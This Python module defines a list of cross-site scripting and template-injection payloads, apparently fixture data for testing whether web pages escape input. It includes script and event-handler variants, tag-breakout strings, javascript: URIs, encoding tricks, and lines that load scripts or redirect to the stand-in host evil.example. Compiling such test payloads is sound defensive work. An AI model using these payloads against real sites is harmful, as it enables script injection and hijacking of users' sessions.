"""Texts that would like to be code. Each one shows a dialog or leaves a mark if any page lets it."""

from __future__ import annotations

from html import escape

_RUN = "alert(1)"
_TAGS = [
    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js>{_RUN}</script>",
    f"</script><script>{_RUN}</script>", f"<script>{_RUN}//", f"<script\n>{_RUN}</script\n>",
    f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>", f"<svg><script>{_RUN}</script></svg>",
    f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f'<img src="x" onerror="{_RUN}">',
    f"<IMG SRC=x ONERROR={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}//",
    f"<body onload={_RUN}>", f"<input autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>", f"<audio src=x onerror={_RUN}>", f"<marquee onstart={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<style onload={_RUN}></style>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    f"<iframe src=javascript:{_RUN}></iframe>", f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", f"<form action=javascript:{_RUN}><button>x",
    f"<a href=javascript:{_RUN}>x</a>", f"<math><mtext><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<template><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->", f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<xmp><img src=x onerror={_RUN}></xmp>", f"<title></title><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>", f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</option></select><img src=x onerror={_RUN}>",
]  # fmt: skip
_ATTRIBUTES = [
    f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>", f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' x='", f'" autofocus onfocus={_RUN} x="', f"x onload={_RUN}", f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", f"`-{_RUN}-`", f'";{_RUN};//', f"';{_RUN};//",
    f'\\";{_RUN};//',
]  # fmt: skip
_TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", f"${{{_RUN}}}", "{{constructor.constructor('alert(1)')()}}",
    escape(f"<img src=x onerror={_RUN}>"), f"\u2028<img src=x onerror={_RUN}>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]  # fmt: skip

PAYLOADS = tuple(_TAGS + _ATTRIBUTES + _TEMPLATES)
